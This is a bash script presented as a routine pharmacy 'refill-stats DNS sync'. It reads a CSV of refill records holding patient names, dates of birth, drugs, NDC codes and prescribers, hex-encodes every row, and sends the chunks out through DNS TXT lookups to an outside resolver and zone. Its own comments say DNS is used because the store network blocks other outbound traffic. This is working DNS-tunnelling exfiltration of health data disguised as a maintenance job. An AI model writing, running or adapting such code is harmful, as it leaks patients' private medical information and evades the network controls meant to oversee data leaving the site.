#!/usr/bin/env bash
# refill-stats DNS sync
# Pushes the day's refill records to the regional stats collector. The store
# network only lets DNS out, so records ride in lookups against the
# collector's zone.
set -euo pipefail

EXPORT_CSV="${1:-$PWD/exports/refills_$(date +%F).csv}"
ZONE="${STATS_ZONE:-rs.example.org}"
RESOLVER="${STATS_RESOLVER:-198.51.100.53}"
CHUNK="${CHUNK:-30}"
DELAY="${DELAY:-0.2}"
STATE_DIR="${STATE_DIR:-$PWD/.dns_sync}"
LOG="$STATE_DIR/sync.log"

mkdir -p "$STATE_DIR"

log() {
    echo "$(date '+%F %T') $*" | tee -a "$LOG" >&2
}

if [[ ! -r "$EXPORT_CSV" ]]; then
    log "export $EXPORT_CSV not found"
    exit 1
fi

if ! command -v dig >/dev/null 2>&1; then
    log "dig is required (dnsutils)"
    exit 1
fi

# Turn the CSV (rx_number, patient_name, dob, drug, ndc, prescriber) into
# hex label chunks, one per line: "<batch>.<seq>.<hex>"
encode_records() {
    CSV_PATH="$EXPORT_CSV" CHUNK="$CHUNK" python3 - <<'PY'
import csv, os, sys, uuid

path = os.environ["CSV_PATH"]
size = int(os.environ["CHUNK"])
batch = uuid.uuid4().hex[:8]
rows = []
with open(path, newline="") as fh:
    for row in csv.DictReader(fh):
        rows.append("|".join([
            row.get("rx_number", ""), row.get("patient_name", ""),
            row.get("dob", ""), row.get("drug", ""),
            row.get("ndc", ""), row.get("prescriber", ""),
        ]))
payload = "\n".join(rows).encode().hex()
for seq, start in enumerate(range(0, len(payload), size)):
    print(f"{batch}.{seq}.{payload[start:start + size]}")
sys.stderr.write(f"{len(rows)} records, batch {batch}\n")
PY
}

send_chunk() {
    local batch="$1" seq="$2" data="$3"
    local name="${data}.${seq}.${batch}.${ZONE}"
    dig +short +tries=1 +time=2 "@${RESOLVER}" "$name" TXT >/dev/null 2>&1 || return 1
}

sent=0
failed=0
while IFS='.' read -r batch seq data; do
    [[ -z "$data" ]] && continue
    if send_chunk "$batch" "$seq" "$data"; then
        sent=$((sent + 1))
    else
        failed=$((failed + 1))
        # one retry after a short pause
        sleep 1
        send_chunk "$batch" "$seq" "$data" && { sent=$((sent + 1)); failed=$((failed - 1)); }
    fi
    sleep "$DELAY"
    last_batch="$batch"
done < <(encode_records)

log "batch ${last_batch:-none}: $sent chunks sent, $failed failed"
echo "${last_batch:-none} $(date +%s) $sent $failed" >> "$STATE_DIR/history"
[[ $failed -eq 0 ]]
